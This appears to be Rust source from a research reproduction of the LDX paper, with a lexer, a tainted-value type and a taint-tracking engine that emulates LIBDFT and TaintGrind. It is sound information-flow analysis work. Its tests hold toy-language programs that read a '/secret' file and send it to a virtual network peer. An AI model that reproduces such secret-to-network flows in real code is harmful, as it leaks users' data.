    use super::*;
    use crate::parse;

    fn strip_spans_program(p: &Program) -> String {
        // Compare via a second pretty-print: span differences don't matter.
        to_source(p)
    }

    #[test]
    fn round_trips_representative_program() {
        let src = r#"
            global limit = 100;
            fn raise(salary, rate) {
                let fd = open("contract", 0);
                let data = read(fd, 64);
                close(fd);
                return salary * int(data) / 100;
            }
            fn main() {
                let total = 0;
                for (let i = 0; i < limit; i = i + 1) {
                    if (i % 2 == 0 && i != 4) {
                        total = total + raise(i, 3);
                    } else {
                        total = total - 1;
                    }
                }
                while (total > 0) {
                    total = total / 2;
                    if (total == 7) { break; }
                }
                let f = &raise;
                send(connect("host"), str(total));
            }
        "#;
        let once = parse(src).unwrap();
        let printed = to_source(&once);
        let twice = parse(&printed).unwrap();
        assert_eq!(strip_spans_program(&once), strip_spans_program(&twice));
    }

    #[test]
    fn escapes_strings() {
        let p = parse("fn main() { write(1, \"a\\n\\\"b\\\"\"); }").unwrap();
        let printed = to_source(&p);
        assert!(printed.contains("\\n"));
        assert!(printed.contains("\\\""));
        assert!(parse(&printed).is_ok());
    }

    #[test]
    fn parenthesization_preserves_precedence() {
        let p1 = parse("fn main() { let x = (1 + 2) * 3; }").unwrap();
        let printed = to_source(&p1);
        let p2 = parse(&printed).unwrap();
        assert_eq!(to_source(&p1), to_source(&p2));
    }
}
