//! Token definitions for the Lx lexer.

use crate::error::Span;
use std::fmt;

/// The kind of a lexical token.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TokenKind {
    /// An identifier or keyword candidate, e.g. `raise`.
    Ident(String),
    /// A decimal integer literal, e.g. `42`.
    Int(i64),
    /// A string literal with escapes already processed, e.g. `"hi\n"`.
    Str(String),

    // Keywords.
    /// `fn`
    Fn,
    /// `let`
    Let,
    /// `global`
    Global,
    /// `if`
    If,
    /// `else`
    Else,
    /// `while`
    While,
    /// `for`
    For,
    /// `return`
    Return,
    /// `break`
    Break,
    /// `continue`
    Continue,
    /// `true` (sugar for `1`)
    True,
    /// `false` (sugar for `0`)
    False,

    // Punctuation and operators.
    /// `(`
    LParen,
    /// `)`
    RParen,
    /// `{`
    LBrace,
    /// `}`
    RBrace,
    /// `[`
    LBracket,
    /// `]`
    RBracket,
    /// `,`
    Comma,
    /// `;`
    Semi,
    /// `=`
    Assign,
    /// `+`
    Plus,
    /// `-`
    Minus,
    /// `*`
    Star,
    /// `/`
    Slash,
    /// `%`
    Percent,
    /// `==`
    EqEq,
    /// `!=`
    NotEq,
    /// `<`
    Lt,
    /// `<=`
    Le,
    /// `>`
    Gt,
    /// `>=`
    Ge,
    /// `&&`
    AndAnd,
    /// `||`
    OrOr,
    /// `!`
    Bang,
    /// `&` (function reference, e.g. `&handler`)
    Amp,

    /// End of input marker.
    Eof,
}

impl fmt::Display for TokenKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            TokenKind::Ident(s) => write!(f, "identifier `{s}`"),
            TokenKind::Int(v) => write!(f, "integer `{v}`"),
            TokenKind::Str(s) => write!(f, "string {s:?}"),
            TokenKind::Fn => write!(f, "`fn`"),
            TokenKind::Let => write!(f, "`let`"),
            TokenKind::Global => write!(f, "`global`"),
            TokenKind::If => write!(f, "`if`"),
            TokenKind::Else => write!(f, "`else`"),
            TokenKind::While => write!(f, "`while`"),
            TokenKind::For => write!(f, "`for`"),
            TokenKind::Return => write!(f, "`return`"),
            TokenKind::Break => write!(f, "`break`"),
            TokenKind::Continue => write!(f, "`continue`"),
            TokenKind::True => write!(f, "`true`"),
            TokenKind::False => write!(f, "`false`"),
            TokenKind::LParen => write!(f, "`(`"),
            TokenKind::RParen => write!(f, "`)`"),
            TokenKind::LBrace => write!(f, "`{{`"),
            TokenKind::RBrace => write!(f, "`}}`"),
            TokenKind::LBracket => write!(f, "`[`"),
            TokenKind::RBracket => write!(f, "`]`"),
            TokenKind::Comma => write!(f, "`,`"),
            TokenKind::Semi => write!(f, "`;`"),
            TokenKind::Assign => write!(f, "`=`"),
            TokenKind::Plus => write!(f, "`+`"),
            TokenKind::Minus => write!(f, "`-`"),
            TokenKind::Star => write!(f, "`*`"),
            TokenKind::Slash => write!(f, "`/`"),
            TokenKind::Percent => write!(f, "`%`"),
            TokenKind::EqEq => write!(f, "`==`"),
            TokenKind::NotEq => write!(f, "`!=`"),
            TokenKind::Lt => write!(f, "`<`"),
            TokenKind::Le => write!(f, "`<=`"),
            TokenKind::Gt => write!(f, "`>`"),
            TokenKind::Ge => write!(f, "`>=`"),
            TokenKind::AndAnd => write!(f, "`&&`"),
            TokenKind::OrOr => write!(f, "`||`"),
            TokenKind::Bang => write!(f, "`!`"),
            TokenKind::Amp => write!(f, "`&`"),
            TokenKind::Eof => write!(f, "end of input"),
        }
    }
}

/// A token together with its source location.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Token {
    /// What kind of token this is.
    pub kind: TokenKind,
    /// Where the token starts in the source.
    pub span: Span,
}

impl Token {
    /// Creates a token at the given location.
    pub fn new(kind: TokenKind, span: Span) -> Self {
        Token { kind, span }
    }
}

/// Maps an identifier to its keyword kind, if it is a keyword.
pub(crate) fn keyword(ident: &str) -> Option<TokenKind> {
    Some(match ident {
        "fn" => TokenKind::Fn,
        "let" => TokenKind::Let,
        "global" => TokenKind::Global,
        "if" => TokenKind::If,
        "else" => TokenKind::Else,
        "while" => TokenKind::While,
        "for" => TokenKind::For,
        "return" => TokenKind::Return,
        "break" => TokenKind::Break,
        "continue" => TokenKind::Continue,
        "true" => TokenKind::True,
        "false" => TokenKind::False,
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keywords_recognized() {
        assert_eq!(keyword("fn"), Some(TokenKind::Fn));
        assert_eq!(keyword("while"), Some(TokenKind::While));
        assert_eq!(keyword("raise"), None);
    }

    #[test]
    fn display_is_nonempty_for_all_kinds() {
        let kinds = [
            TokenKind::Ident("x".into()),
            TokenKind::Int(1),
            TokenKind::Str("s".into()),
            TokenKind::Fn,
            TokenKind::Assign,
            TokenKind::AndAnd,
            TokenKind::Eof,
        ];
        for k in kinds {
            assert!(!k.to_string().is_empty());
        }
    }
}
