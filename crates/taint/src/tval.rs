//! Tainted values: runtime values carrying source label sets.

use ldx_ir::FuncId;
use ldx_runtime::Value;
use std::sync::Arc;

/// A set of source labels (bit per source; up to 64 sources).
pub type Labels = u64;

/// A value with taint labels. Arrays carry both per-element labels and a
/// whole-array label (index taint merges into the array label on store).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TVal {
    /// Tainted integer.
    Int(i64, Labels),
    /// Tainted string (single label set for the whole string; the payload
    /// is shared with [`Value::Str`] so lift/drop never copies it).
    Str(Arc<str>, Labels),
    /// Tainted array.
    Arr(Vec<TVal>, Labels),
    /// Tainted function reference.
    Func(FuncId, Labels),
}

impl TVal {
    /// An untainted zero.
    pub fn zero() -> TVal {
        TVal::Int(0, 0)
    }

    /// Lifts an untainted runtime value.
    pub fn from_value(v: &Value, labels: Labels) -> TVal {
        match v {
            Value::Int(i) => TVal::Int(*i, labels),
            Value::Str(s) => TVal::Str(s.clone(), labels),
            Value::Arr(a) => TVal::Arr(
                a.iter().map(|e| TVal::from_value(e, labels)).collect(),
                labels,
            ),
            Value::Func(f) => TVal::Func(*f, labels),
        }
    }

    /// Drops the taint, yielding the plain value.
    pub fn to_value(&self) -> Value {
        match self {
            TVal::Int(i, _) => Value::Int(*i),
            TVal::Str(s, _) => Value::Str(s.clone()),
            TVal::Arr(a, _) => Value::arr(a.iter().map(TVal::to_value).collect()),
            TVal::Func(f, _) => Value::Func(*f),
        }
    }

    /// The value's own labels (for arrays: the array-level labels).
    pub fn labels(&self) -> Labels {
        match self {
            TVal::Int(_, l) | TVal::Str(_, l) | TVal::Arr(_, l) | TVal::Func(_, l) => *l,
        }
    }

    /// The union of all labels reachable in the value (array elements too).
    pub fn deep_labels(&self) -> Labels {
        match self {
            TVal::Arr(a, l) => a.iter().fold(*l, |acc, e| acc | e.deep_labels()),
            other => other.labels(),
        }
    }

    /// Returns the value with `labels` OR-ed in (shallow).
    pub fn with_labels(mut self, labels: Labels) -> TVal {
        match &mut self {
            TVal::Int(_, l) | TVal::Str(_, l) | TVal::Arr(_, l) | TVal::Func(_, l) => {
                *l |= labels;
            }
        }
        self
    }

    /// Truthiness of the underlying value.
    pub fn truthy(&self) -> bool {
        self.to_value().truthy()
    }

    /// The underlying integer, if any.
    pub fn as_int(&self) -> Option<i64> {
        match self {
            TVal::Int(i, _) => Some(*i),
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip_preserves_value() {
        let v = Value::arr(vec![Value::Int(1), Value::Str("x".into())]);
        let t = TVal::from_value(&v, 0b10);
        assert_eq!(t.to_value(), v);
        assert_eq!(t.labels(), 0b10);
        assert_eq!(t.deep_labels(), 0b10);
    }

    #[test]
    fn with_labels_unions() {
        let t = TVal::Int(3, 0b01).with_labels(0b10);
        assert_eq!(t.labels(), 0b11);
    }

    #[test]
    fn deep_labels_cover_elements() {
        let t = TVal::Arr(vec![TVal::Int(1, 0b100), TVal::Int(2, 0)], 0b001);
        assert_eq!(t.labels(), 0b001);
        assert_eq!(t.deep_labels(), 0b101);
    }

    #[test]
    fn truthiness_matches_value() {
        assert!(TVal::Str("x".into(), 0).truthy());
        assert!(!TVal::Int(0, 7).truthy());
    }
}
