//! Dynamic taint-tracking baselines for the LDX reproduction.
//!
//! The paper (§8.3, Table 3) compares LDX against LIBDFT and TaintGrind —
//! instruction-level dynamic data-flow trackers. This crate provides
//! faithful *behavioral* stand-ins over the same Lx IR and virtual OS: the
//! same source/sink specifications as `ldx-dualex`, three propagation
//! policies, and a [`TaintReport`] with the tainted-sink counts Table 3
//! tabulates.
//!
//! # Example
//!
//! ```
//! use std::sync::Arc;
//! use ldx_taint::{taint_execute, TaintPolicy};
//! use ldx_dualex::{SinkSpec, SourceSpec};
//! use ldx_vos::{PeerBehavior, VosConfig};
//!
//! let program = Arc::new(ldx_ir::lower(&ldx_lang::compile(r#"
//!     fn main() {
//!         let s = read(open("/secret", 0), 8);
//!         send(connect("out"), s);        // direct data flow
//!     }
//! "#)?));
//! let world = VosConfig::new().file("/secret", "k").peer("out", PeerBehavior::Echo);
//! let report = taint_execute(
//!     &program, &world,
//!     &[SourceSpec::file("/secret")], &SinkSpec::NetworkOut,
//!     TaintPolicy::TaintGrindLike,
//! );
//! assert!(report.any_tainted());
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

mod engine;
mod tval;

pub use engine::{taint_execute, TaintPolicy, TaintReport};
pub use tval::{Labels, TVal};

#[cfg(test)]
mod tests {
    use super::*;
    use ldx_dualex::{SinkSpec, SourceMatcher, SourceSpec};
    use ldx_vos::{PeerBehavior, VosConfig};
    use std::sync::Arc;

    fn build(src: &str) -> Arc<ldx_ir::IrProgram> {
        Arc::new(ldx_ir::lower(&ldx_lang::compile(src).unwrap()))
    }

    fn world_with_secret(secret: &str) -> VosConfig {
        VosConfig::new()
            .file("/secret", secret)
            .peer("out", PeerBehavior::Echo)
    }

    fn run(
        program: &Arc<ldx_ir::IrProgram>,
        world: &VosConfig,
        policy: TaintPolicy,
    ) -> TaintReport {
        taint_execute(
            program,
            world,
            &[SourceSpec::file("/secret")],
            &SinkSpec::NetworkOut,
            policy,
        )
    }

    #[test]
    fn direct_data_flow_tainted_by_all_policies() {
        let p = build(
            r#"fn main() {
                let s = read(open("/secret", 0), 8);
                send(connect("out"), s);
            }"#,
        );
        let w = world_with_secret("abc");
        for policy in [
            TaintPolicy::LibDftLike,
            TaintPolicy::TaintGrindLike,
            TaintPolicy::DataAndControl,
        ] {
            let r = run(&p, &w, policy);
            assert!(r.any_tainted(), "{policy:?}");
            assert_eq!(r.total_sink_instances, 1);
        }
    }

    #[test]
    fn arithmetic_propagation() {
        let p = build(
            r#"fn main() {
                let s = int(read(open("/secret", 0), 8));
                let derived = (s * 3 + 7) % 100;
                send(connect("out"), str(derived));
            }"#,
        );
        let r = run(&p, &world_with_secret("41"), TaintPolicy::LibDftLike);
        assert!(r.any_tainted());
    }

    #[test]
    fn control_dependence_missed_by_data_only_policies() {
        // The paper's key discriminator (its Fig. 1(b)): the secret flows
        // to the output only through a branch.
        let p = build(
            r#"fn main() {
                let s = read(open("/secret", 0), 8);
                let msg = "low";
                if (s == "A") { msg = "high"; }
                send(connect("out"), msg);
            }"#,
        );
        let w = world_with_secret("A");
        assert!(!run(&p, &w, TaintPolicy::LibDftLike).any_tainted());
        assert!(!run(&p, &w, TaintPolicy::TaintGrindLike).any_tainted());
        assert!(run(&p, &w, TaintPolicy::DataAndControl).any_tainted());
    }

    #[test]
    fn libdft_gap_on_string_library() {
        // Propagation through substr: TaintGrind keeps the label, the
        // LIBDFT emulation drops it (paper: LIBDFT ⊂ TaintGrind).
        let p = build(
            r#"fn main() {
                let s = read(open("/secret", 0), 16);
                let part = substr(s, 0, 4);
                send(connect("out"), part);
            }"#,
        );
        let w = world_with_secret("classified");
        assert!(run(&p, &w, TaintPolicy::TaintGrindLike).any_tainted());
        assert!(!run(&p, &w, TaintPolicy::LibDftLike).any_tainted());
    }

    #[test]
    fn taint_through_globals_and_arrays() {
        let p = build(
            r#"
            global stash = [0, 0];
            fn main() {
                let s = int(read(open("/secret", 0), 4));
                stash[1] = s;
                send(connect("out"), str(stash[1]));
            }
            "#,
        );
        let r = run(&p, &world_with_secret("7"), TaintPolicy::TaintGrindLike);
        assert!(r.any_tainted());
    }

    #[test]
    fn untainted_output_stays_clean() {
        let p = build(
            r#"fn main() {
                let s = read(open("/secret", 0), 8);
                send(connect("out"), "constant");
            }"#,
        );
        for policy in [TaintPolicy::LibDftLike, TaintPolicy::TaintGrindLike] {
            let r = run(&p, &world_with_secret("x"), policy);
            assert!(!r.any_tainted());
            assert_eq!(r.total_sink_instances, 1);
        }
    }

    #[test]
    fn taint_through_function_calls() {
        let p = build(
            r#"
            fn process(x) { return x + x; }
            fn main() {
                let s = read(open("/secret", 0), 8);
                send(connect("out"), process(s));
            }
            "#,
        );
        assert!(run(&p, &world_with_secret("ab"), TaintPolicy::LibDftLike).any_tainted());
    }

    #[test]
    fn taint_through_indirect_calls_and_threads() {
        let p = build(
            r#"
            global acc = "";
            fn worker(x) { acc = acc + x; return 0; }
            fn main() {
                let s = read(open("/secret", 0), 8);
                let t = spawn(&worker, s);
                join(t);
                send(connect("out"), acc);
            }
            "#,
        );
        assert!(run(&p, &world_with_secret("zz"), TaintPolicy::TaintGrindLike).any_tainted());
    }

    #[test]
    fn source_site_matching() {
        let p = build(
            r#"
            fn main() {
                let a = time();
                let b = time();
                send(connect("out"), str(a) + str(b));
            }
            "#,
        );
        let w = VosConfig::new().peer("out", PeerBehavior::Echo);
        let r = taint_execute(
            &p,
            &w,
            &[SourceSpec {
                matcher: SourceMatcher::SyscallKind(ldx_lang::Syscall::Time),
                mutation: ldx_dualex::Mutation::OffByOne,
            }],
            &SinkSpec::NetworkOut,
            TaintPolicy::LibDftLike,
        );
        assert!(r.any_tainted());
    }

    #[test]
    fn sink_site_spec_counts_only_listed_sites() {
        let p = build(
            r#"
            fn critical(v) { write(3, str(v)); return 0; }
            fn main() {
                let s = int(read(open("/secret", 0), 4));
                critical(s);
                write(3, "unrelated");
            }
            "#,
        );
        let w = VosConfig::new().file("/secret", "9");
        let r = taint_execute(
            &p,
            &w,
            &[SourceSpec::file("/secret")],
            &SinkSpec::Sites(vec![("critical".into(), 0)]),
            TaintPolicy::TaintGrindLike,
        );
        assert_eq!(r.total_sink_instances, 1);
        assert_eq!(r.tainted_sink_instances, 1);
    }

    #[test]
    fn control_scope_closes_at_join() {
        // After the join point, assignments are no longer control-tainted.
        let p = build(
            r#"fn main() {
                let s = read(open("/secret", 0), 8);
                let x = 0;
                if (s == "A") { x = 1; }
                let clean = 5;
                send(connect("out"), str(clean));
            }"#,
        );
        let r = run(&p, &world_with_secret("A"), TaintPolicy::DataAndControl);
        assert!(!r.any_tainted(), "assignment after the join must be clean");
    }

    #[test]
    fn loops_propagate_taint_data_only() {
        let p = build(
            r#"fn main() {
                let s = int(read(open("/secret", 0), 4));
                let acc = 0;
                for (let i = 0; i < 3; i = i + 1) {
                    acc = acc + s;
                }
                send(connect("out"), str(acc));
            }"#,
        );
        assert!(run(&p, &world_with_secret("5"), TaintPolicy::LibDftLike).any_tainted());
    }

    #[test]
    fn instrumented_programs_run_identically() {
        let src = r#"fn main() {
            let s = read(open("/secret", 0), 8);
            if (len(s) > 2) { write(3, "pad"); }
            send(connect("out"), s);
        }"#;
        let plain = build(src);
        let instrumented = Arc::new(
            ldx_instrument::instrument(&ldx_ir::lower(&ldx_lang::compile(src).unwrap()))
                .into_program(),
        );
        let w = world_with_secret("abc");
        let r1 = run(&plain, &w, TaintPolicy::TaintGrindLike);
        let r2 = run(&instrumented, &w, TaintPolicy::TaintGrindLike);
        assert_eq!(r1.tainted_sink_instances, r2.tainted_sink_instances);
        assert_eq!(r1.total_sink_instances, r2.total_sink_instances);
    }
}
