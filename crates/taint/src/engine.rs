//! The dynamic taint-tracking interpreter.
//!
//! This is the reproduction's stand-in for the paper's comparison tools
//! (§8.3): LIBDFT and TaintGrind, which track *data dependences* at the
//! instruction level, plus a data+control variant for the ablation. The
//! engine runs a single execution over the same IR as the LDX runtime,
//! shadowing every value with a label set:
//!
//! * **`TaintGrindLike`** — full data-dependence propagation through all
//!   operators and library functions;
//! * **`LibDftLike`** — like TaintGrind, but taint is *dropped* across a
//!   handful of string-library calls ([`ldx_lang::LibFn::libdft_unmodeled`]),
//!   reproducing the paper's observation that LIBDFT's tainted sinks are a
//!   strict subset of TaintGrind's because it "does not correctly model
//!   taint propagation for some library calls";
//! * **`DataAndControl`** — additionally propagates through control
//!   dependences (implicit flows), scoped by immediate postdominators.
//!
//! Lx threads run *inline* (spawn executes the thread function to
//! completion at the spawn point): taint baselines need no real
//! concurrency, and this keeps them deterministic.

use crate::tval::{Labels, TVal};
use ldx_dualex::{SinkSpec, SourceMatcher, SourceSpec};
use ldx_ir::dom::PostDominators;
use ldx_ir::{BlockId, FuncId, Instr, IrProgram, LocalId, SiteId, Terminator};
use ldx_lang::Syscall;
use ldx_runtime::{const_to_value, eval_binary, eval_index, eval_lib, eval_unary, Trap, Value};
use ldx_vos::{SysArg, SysRet, VosConfig, VosState};
use std::collections::{BTreeSet, HashMap};
use std::sync::Arc;

/// Which tool is being emulated.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TaintPolicy {
    /// Data dependences with unmodeled string-library calls.
    LibDftLike,
    /// Full data-dependence propagation.
    TaintGrindLike,
    /// Data plus control dependences (ablation).
    DataAndControl,
}

impl TaintPolicy {
    /// Human-readable tool name.
    pub fn name(self) -> &'static str {
        match self {
            TaintPolicy::LibDftLike => "LIBDFT",
            TaintPolicy::TaintGrindLike => "TAINTGRIND",
            TaintPolicy::DataAndControl => "DATA+CONTROL",
        }
    }
}

/// The result of one tainted execution.
#[derive(Debug, Clone)]
pub struct TaintReport {
    /// Dynamic sink instances with at least one tainted argument.
    pub tainted_sink_instances: u64,
    /// Distinct static sites among them.
    pub tainted_sites: BTreeSet<(FuncId, SiteId)>,
    /// All dynamic sink instances.
    pub total_sink_instances: u64,
    /// Syscalls executed.
    pub syscalls: u64,
    /// The trap that ended execution early, if any.
    pub trap: Option<Trap>,
}

impl TaintReport {
    /// Whether any sink was tainted.
    pub fn any_tainted(&self) -> bool {
        self.tainted_sink_instances > 0
    }
}

/// Runs `program` under taint tracking.
///
/// `sources` use the same matchers as the dual-execution engine (mutations
/// are ignored — tainting labels instead of perturbing). `sinks` likewise.
pub fn taint_execute(
    program: &Arc<IrProgram>,
    config: &VosConfig,
    sources: &[SourceSpec],
    sinks: &SinkSpec,
    policy: TaintPolicy,
) -> TaintReport {
    let mut interp = TaintInterp::new(Arc::clone(program), config, sources, sinks, policy);
    let trap = interp.run().err();
    TaintReport {
        tainted_sink_instances: interp.tainted_sink_instances,
        tainted_sites: interp.tainted_sites,
        total_sink_instances: interp.total_sink_instances,
        syscalls: interp.syscalls,
        trap,
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Resource {
    File(Vec<String>),
    Peer(String),
    Client(i64),
}

struct Activation {
    func: FuncId,
    block: BlockId,
    idx: usize,
    locals: Vec<TVal>,
    ret_dst: LocalId,
    /// Implicit-flow scopes: `(join block, labels)`, popped at the join.
    ctrl: Vec<(Option<BlockId>, Labels)>,
}

struct TaintInterp {
    program: Arc<IrProgram>,
    vos: VosState,
    sources: Vec<(ResolvedSource, Labels)>,
    sinks: SinkSpec,
    sink_sites: BTreeSet<(FuncId, SiteId)>,
    policy: TaintPolicy,
    postdoms: Vec<PostDominators>,
    activations: Vec<Activation>,
    globals: Vec<TVal>,
    fd_resources: HashMap<i64, Resource>,
    thread_results: HashMap<i64, TVal>,
    next_tid: i64,
    steps: u64,
    max_steps: u64,
    exited: bool,
    pub syscalls: u64,
    pub tainted_sink_instances: u64,
    pub tainted_sites: BTreeSet<(FuncId, SiteId)>,
    pub total_sink_instances: u64,
}

#[derive(Debug, Clone)]
enum ResolvedSource {
    FileRead(Vec<String>),
    NetRecv(String),
    ClientRecv(i64),
    SyscallKind(Syscall),
    Site(FuncId, SiteId),
}

impl TaintInterp {
    fn new(
        program: Arc<IrProgram>,
        config: &VosConfig,
        sources: &[SourceSpec],
        sinks: &SinkSpec,
        policy: TaintPolicy,
    ) -> Self {
        let resolved: Vec<(ResolvedSource, Labels)> = sources
            .iter()
            .enumerate()
            .filter_map(|(i, s)| {
                let r = match &s.matcher {
                    SourceMatcher::FileRead(p) => {
                        ResolvedSource::FileRead(ldx_vos::normalize_path(p))
                    }
                    SourceMatcher::NetRecv(h) => ResolvedSource::NetRecv(h.clone()),
                    SourceMatcher::ClientRecv(p) => ResolvedSource::ClientRecv(*p),
                    SourceMatcher::SyscallKind(sys) => ResolvedSource::SyscallKind(*sys),
                    SourceMatcher::Site(f, site) => {
                        ResolvedSource::Site(program.func_id(f)?, SiteId(*site))
                    }
                };
                Some((r, 1u64 << (i % 64)))
            })
            .collect();
        let sink_sites = match sinks {
            SinkSpec::Sites(list) => list
                .iter()
                .filter_map(|(f, s)| program.func_id(f).map(|fid| (fid, SiteId(*s))))
                .collect(),
            _ => BTreeSet::new(),
        };
        let postdoms = program
            .functions
            .iter()
            .map(PostDominators::compute)
            .collect();
        let globals = program
            .globals
            .iter()
            .map(|(_, c)| TVal::from_value(&const_to_value(c), 0))
            .collect();
        TaintInterp {
            program,
            vos: VosState::build(config),
            sources: resolved,
            sinks: sinks.clone(),
            sink_sites,
            policy,
            postdoms,
            activations: Vec::new(),
            globals,
            fd_resources: HashMap::new(),
            thread_results: HashMap::new(),
            next_tid: 100,
            steps: 0,
            max_steps: 200_000_000,
            exited: false,
            syscalls: 0,
            tainted_sink_instances: 0,
            tainted_sites: BTreeSet::new(),
            total_sink_instances: 0,
        }
    }

    fn run(&mut self) -> Result<(), Trap> {
        let main = self.program.main();
        self.call(main, Vec::new(), LocalId(0))?;
        self.execute_to_depth(0)
    }

    /// Runs until the activation stack shrinks back to `floor`.
    fn execute_to_depth(&mut self, floor: usize) -> Result<(), Trap> {
        let program = Arc::clone(&self.program);
        while self.activations.len() > floor && !self.exited {
            self.steps += 1;
            if self.steps > self.max_steps {
                return Err(Trap::StepLimitExceeded {
                    limit: self.max_steps,
                });
            }
            let (func, block, idx) = {
                let act = self.activations.last().expect("active frame");
                (act.func, act.block, act.idx)
            };
            let body = &program.functions[func.index()];
            let bb = &body.blocks[block.index()];
            if idx < bb.instrs.len() {
                self.activations.last_mut().expect("frame").idx += 1;
                self.exec_instr(func, &bb.instrs[idx])?;
            } else {
                self.exec_terminator(func, &bb.term)?;
            }
        }
        Ok(())
    }

    fn local(&self, id: LocalId) -> &TVal {
        &self.activations.last().expect("frame").locals[id.index()]
    }

    fn ctrl_labels(&self) -> Labels {
        if self.policy != TaintPolicy::DataAndControl {
            return 0;
        }
        self.activations
            .last()
            .map(|a| a.ctrl.iter().fold(0, |acc, (_, l)| acc | l))
            .unwrap_or(0)
    }

    fn set_local(&mut self, id: LocalId, v: TVal) {
        let ctrl = self.ctrl_labels();
        self.activations.last_mut().expect("frame").locals[id.index()] = v.with_labels(ctrl);
    }

    fn call(&mut self, func: FuncId, args: Vec<TVal>, ret_dst: LocalId) -> Result<(), Trap> {
        if self.activations.len() >= 4096 {
            return Err(Trap::StackOverflow { limit: 4096 });
        }
        let body = self.program.func(func);
        let mut locals = vec![TVal::zero(); body.local_count];
        for (i, a) in args.into_iter().enumerate() {
            locals[i] = a;
        }
        self.activations.push(Activation {
            func,
            block: body.entry,
            idx: 0,
            locals,
            ret_dst,
            ctrl: Vec::new(),
        });
        Ok(())
    }

    fn goto(&mut self, block: BlockId) {
        let act = self.activations.last_mut().expect("frame");
        act.block = block;
        act.idx = 0;
        // Close implicit-flow scopes whose join point we just reached.
        act.ctrl.retain(|(join, _)| *join != Some(block));
    }

    fn exec_terminator(&mut self, func: FuncId, term: &Terminator) -> Result<(), Trap> {
        match term {
            Terminator::Jump(b) => {
                self.goto(*b);
            }
            Terminator::Branch {
                cond,
                then_bb,
                else_bb,
            } => {
                let cv = self.local(*cond).clone();
                let labels = cv.deep_labels();
                let target = if cv.truthy() { *then_bb } else { *else_bb };
                if self.policy == TaintPolicy::DataAndControl && labels != 0 {
                    let act = self.activations.last().expect("frame");
                    let join = self.postdoms[func.index()].ipdom(act.block);
                    self.activations
                        .last_mut()
                        .expect("frame")
                        .ctrl
                        .push((join, labels));
                }
                self.goto(target);
            }
            Terminator::Return(slot) => {
                let value = match slot {
                    Some(s) => self.local(*s).clone(),
                    None => TVal::zero(),
                };
                let act = self.activations.pop().expect("frame");
                if let Some(caller) = self.activations.last_mut() {
                    let ctrl = caller.ctrl.iter().fold(0, |acc, (_, l)| acc | l);
                    let ctrl = if self.policy == TaintPolicy::DataAndControl {
                        ctrl
                    } else {
                        0
                    };
                    caller.locals[act.ret_dst.index()] = value.with_labels(ctrl);
                }
            }
        }
        Ok(())
    }

    fn exec_instr(&mut self, func: FuncId, instr: &Instr) -> Result<(), Trap> {
        match instr {
            Instr::Const { dst, value } => {
                let v = TVal::from_value(&const_to_value(value), 0);
                self.set_local(*dst, v);
            }
            Instr::Copy { dst, src } => {
                let v = self.local(*src).clone();
                self.set_local(*dst, v);
            }
            Instr::LoadGlobal { dst, global } => {
                let v = self.globals[global.index()].clone();
                self.set_local(*dst, v);
            }
            Instr::StoreGlobal { global, src } => {
                let v = self.local(*src).clone().with_labels(self.ctrl_labels());
                self.globals[global.index()] = v;
            }
            Instr::StoreIndexGlobal { global, index, src } => {
                let idx = self.local(*index).clone();
                let v = self
                    .local(*src)
                    .clone()
                    .with_labels(self.ctrl_labels() | idx.deep_labels());
                store_index_tval(&mut self.globals[global.index()], &idx, v)?;
            }
            Instr::StoreIndexLocal { local, index, src } => {
                let idx = self.local(*index).clone();
                let v = self
                    .local(*src)
                    .clone()
                    .with_labels(self.ctrl_labels() | idx.deep_labels());
                let act = self.activations.last_mut().expect("frame");
                store_index_tval(&mut act.locals[local.index()], &idx, v)?;
            }
            Instr::Unary { dst, op, operand } => {
                let t = self.local(*operand);
                let labels = t.deep_labels();
                let v = eval_unary(*op, &t.to_value())?;
                self.set_local(*dst, TVal::from_value(&v, labels));
            }
            Instr::Binary { dst, op, lhs, rhs } => {
                let (l, r) = (self.local(*lhs), self.local(*rhs));
                let labels = l.deep_labels() | r.deep_labels();
                let v = eval_binary(*op, &l.to_value(), &r.to_value())?;
                self.set_local(*dst, TVal::from_value(&v, labels));
            }
            Instr::Index { dst, base, index } => {
                let (b, i) = (self.local(*base), self.local(*index));
                let labels = b.labels() | i.deep_labels();
                let element_labels = match (b, i.as_int()) {
                    (TVal::Arr(elems, _), Some(ix)) => elems
                        .get(usize::try_from(ix).unwrap_or(usize::MAX))
                        .map(TVal::deep_labels)
                        .unwrap_or(0),
                    (TVal::Str(_, l), _) => *l,
                    _ => 0,
                };
                let v = eval_index(&b.to_value(), &i.to_value())?;
                self.set_local(*dst, TVal::from_value(&v, labels | element_labels));
            }
            Instr::MakeArray { dst, elems } => {
                let parts: Vec<TVal> = elems.iter().map(|e| self.local(*e).clone()).collect();
                self.set_local(*dst, TVal::Arr(parts, 0));
            }
            Instr::FuncRef { dst, func } => {
                self.set_local(*dst, TVal::Func(*func, 0));
            }
            Instr::CallLib { dst, lib, args } => {
                let targs: Vec<&TVal> = args.iter().map(|a| self.local(*a)).collect();
                let mut labels = targs.iter().fold(0, |acc, t| acc | t.deep_labels());
                // The LIBDFT emulation drops taint across unmodeled
                // library calls — the paper's observed gap.
                if self.policy == TaintPolicy::LibDftLike && lib.libdft_unmodeled() {
                    labels = 0;
                }
                let plain: Vec<Value> = targs.iter().map(|t| t.to_value()).collect();
                let v = eval_lib(*lib, &plain)?;
                self.set_local(*dst, TVal::from_value(&v, labels));
            }
            Instr::Call {
                dst,
                func: callee,
                args,
                ..
            } => {
                let targs: Vec<TVal> = args.iter().map(|a| self.local(*a).clone()).collect();
                self.call(*callee, targs, *dst)?;
            }
            Instr::CallIndirect {
                dst, callee, args, ..
            } => {
                let cv = self.local(*callee).clone();
                let TVal::Func(fid, _) = cv else {
                    return Err(Trap::NotCallable {
                        found: "non-function",
                    });
                };
                let body = self.program.func(fid);
                if body.param_count != args.len() {
                    return Err(Trap::ArityMismatch {
                        callee: body.name.clone(),
                        expected: body.param_count,
                        given: args.len(),
                    });
                }
                let targs: Vec<TVal> = args.iter().map(|a| self.local(*a).clone()).collect();
                self.call(fid, targs, *dst)?;
            }
            Instr::Syscall {
                dst,
